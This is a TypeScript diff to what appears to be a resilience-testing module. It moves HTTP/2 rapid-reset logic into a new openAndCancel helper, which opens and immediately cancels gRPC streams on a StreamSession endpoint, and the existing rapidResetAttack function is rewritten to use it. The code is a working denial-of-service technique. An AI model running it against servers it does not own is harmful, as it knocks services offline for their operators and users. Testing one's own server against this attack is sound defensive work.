@@ -169,6 +169,28 @@ export const oversizedAttack =
   };
 
 /**
+ * Opens StreamSession streams on `session` and cancels each at once, until `count` were
+ * opened or the server closed the session, yielding to the event loop every `yieldEvery`
+ * streams (0: never, so that they leave in a few large writes). Resolves with how many it opened.
+ */
+export async function openAndCancel(
+  session: http2.ClientHttp2Session,
+  count: number,
+  yieldEvery: number,
+  headers: Record<string, string> = {},
+): Promise<number> {
+  let opened = 0;
+  while (!session.closed && !session.destroyed && opened < count) {
+    const stream = session.request({ ":method": "POST", ":path": "/roz.v1.AgentService/StreamSession", "content-type": "application/grpc", ...headers });
+    stream.on("error", () => {});
+    stream.close(http2.constants.NGHTTP2_CANCEL);
+    opened++;
+    if (yieldEvery > 0 && opened % yieldEvery === 0) await new Promise((resolve) => setImmediate(resolve));
+  }
+  return opened;
+}
+
+/**
  * HTTP/2 rapid reset: opens and cancels streams on fresh connections until `total` streams
  * were opened (the server closes each connection that goes over its per-second cap).
  */
@@ -183,12 +205,7 @@ export const rapidResetAttack =
         session.once("connect", () => resolve());
         session.once("close", () => resolve());
       });
-      while (!session.closed && !session.destroyed && opened < total) {
-        const stream = session.request({ ":method": "POST", ":path": "/roz.v1.AgentService/StreamSession", "content-type": "application/grpc", ...headers });
-        stream.on("error", () => {});
-        stream.close(http2.constants.NGHTTP2_CANCEL);
-        if (++opened % 100 === 0) await new Promise((resolve) => setImmediate(resolve));
-      }
+      opened += await openAndCancel(session, total - opened, 100, headers);
       session.destroy();
     }
   };
